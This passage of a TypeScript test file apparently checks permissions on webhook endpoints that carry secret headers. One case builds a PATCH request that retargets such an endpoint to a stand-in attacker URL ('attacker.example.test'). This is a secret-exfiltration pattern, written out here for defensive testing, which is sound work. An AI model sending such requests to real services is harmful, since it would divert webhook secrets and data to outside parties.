        endpoints.set(caller.name, id);
        return {
          method: 'PATCH',
          url: `/v1/webhooks/endpoints/${id}`,
          body: { url: 'https://attacker.example.test/x' },
        };
      },
      async (caller) => endpointState(endpoints.get(caller.name) as string),
    );
    // Anything else about such an endpoint stays the editor's to change.
    const editor = callers.find((c) => c.role === 'editor') as Caller;
    const id = await endpointWithSecretHeader();
    const res = await t.request({
      method: 'PATCH',
      url: `/v1/webhooks/endpoints/${id}`,
      body: { description: 'renamed', headers: { ...secretHeader(), 'X-Extra': 'plain' } },
      token: editor.token,
    });
    expect(res.statusCode, res.body).toBe(200);
  });
});
